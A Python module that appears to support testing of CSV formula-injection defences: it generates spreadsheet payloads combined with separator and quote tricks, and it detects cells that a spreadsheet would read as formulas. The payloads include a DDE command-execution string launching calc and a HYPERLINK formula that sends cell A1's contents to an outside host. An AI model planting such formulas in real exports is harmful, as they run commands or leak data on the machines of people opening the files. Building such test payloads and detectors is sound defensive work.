"""Texts that a spreadsheet program would take for formulas, and the cells that one finds by any separator."""

from __future__ import annotations

import csv
import io

DDE = "=cmd|' /C calc'!A1"
SIGNS = ("=", "+", "-", "@", "\t", "\r", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t", "bar": "|"}
FORMULAS = (*(f"{sign}1+1" for sign in SIGNS), DDE, '=HYPERLINK("http://x.org?a="&A1;"b")', "@SUM(1;2)")
PAYLOADS = tuple(
    f"{before}{formula}{behind}"
    for formula in FORMULAS
    for before in (
        *("", "x;", "x,", "x\t", "x|", "x\r", "x\n", "x\r\n"),
        *('"', 'x;"', 'x";"', "'", "x;'", " ", "x; ", "x,\u00a0", "\ufeff"),
    )
    for behind in ("", '";"=2')
)  # fmt: skip


def cells(text: str, separator: str) -> list[str]:
    """Every cell of a CSV that is opened with this separator, right or wrong."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def formulas(text: str) -> list[str]:
    """The cells that begin with a formula's sign, behind blanks or not, by any of the separators."""
    found = (cell for separator in SEPARATORS.values() for cell in cells(text, separator))
    return [cell for cell in found if cell.startswith(("\t", "\r")) or cell.strip("\ufeff \u00a0").startswith(SIGNS)]
